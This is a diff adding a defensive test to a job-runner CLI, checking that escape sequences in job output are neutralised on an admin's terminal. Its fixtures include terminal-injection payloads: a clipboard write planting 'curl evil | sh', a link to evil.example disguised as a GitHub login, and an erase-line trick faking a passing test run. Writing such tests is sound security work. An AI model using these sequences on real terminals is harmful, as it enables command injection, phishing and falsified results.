@@ -375,6 +375,47 @@ describe('cmdx as a client', () => {
     assert.doesNotMatch(visible(plain.stdout), /⎋/);
   });
 
+  it("a job's output reaches the admin's terminal with its colours only: no clipboard, title, link, cursor or erase (also in a pipe, unless --raw)", async () => {
+    // What one job tried: OSC 52 (clipboard), OSC 0 (title), OSC 8 (a disguised link), cursor up + erase line, 8-bit CSI, BEL, DCS.
+    const attack = [
+      `printf 'tests: 3 failed\\n'`,
+      `printf '\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007'`,
+      `printf '\\033]0;pwned\\033\\\\'`,
+      `printf '\\033]8;;https://evil.example/\\033\\\\https://github.com/login\\033]8;;\\033\\\\\\n'`,
+      `printf '\\033[1A\\033[2K\\033[32mAll 20 tests passed\\033[0m\\n'`,
+      `printf '\\302\\2331A\\302\\2352;x\\007\\033Pq#0\\033\\\\bell\\007end\\n'`,
+    ];
+    const screen = (text: string) => {
+      for (const banned of ['\x1b]', '\x1b[1A', '\x1b[2K', '\x1bP', '\u009b', '\u009d', '\x07'])
+        assert.ok(!text.includes(banned), `${JSON.stringify(banned)} reached: ${visible(text)}`);
+    };
+    const followed = await onTerminal(['submit', project, ...attack.flatMap((line) => ['--run', line]), '--follow', '--wait'], env).done;
+    assert.equal(followed.code, 0, followed.stdout);
+    screen(followed.stdout);
+    assert.match(followed.stdout, /tests: 3 failed/);
+    assert.match(visible(followed.stdout), /⎋\[32mAll 20 tests passed⎋\[0m/); // colours stay
+    assert.match(followed.stdout, /https:\/\/github\.com\/login/); // the text of the link, not the link
+    assert.match(followed.stdout, /bellend/);
+    const jobId = /Job (job-\S+):/.exec(followed.stdout)![1]!;
+
+    const logs = await onTerminal(['logs', jobId], env).done;
+    assert.equal(logs.code, 0, logs.stdout);
+    screen(logs.stdout);
+    assert.match(logs.stdout, /tests: 3 failed/);
+    const live = await onTerminal(['logs', '-f', jobId], env).done;
+    screen(live.stdout);
+    assert.match(live.stdout, /All 20 tests passed/);
+
+    const piped = await cmdx(['logs', jobId]);
+    screen(piped.stdout);
+    const raw = await cmdx(['logs', jobId, '--raw']);
+    assert.ok(raw.stdout.includes('\x1b]52;c;'), 'with --raw into a pipe, the bytes as they came');
+    const rawOnTerminal = await onTerminal(['logs', jobId, '--raw'], env).done;
+    assert.equal(rawOnTerminal.code, 2);
+    assert.match(rawOnTerminal.stdout, /--raw .* only for a pipe or a file/);
+    screen(rawOnTerminal.stdout);
+  });
+
   it("on a terminal, a run's per-PC summary is redrawn in place as its jobs change", async () => {
     const go = join(drop, 'go-terminal');
     const watching = onTerminal(['submit', project, '--on', 'tag:room-a', '--run', `while [ ! -f ${go} ]; do sleep 0.05; done`, '--follow', '--wait'], env);
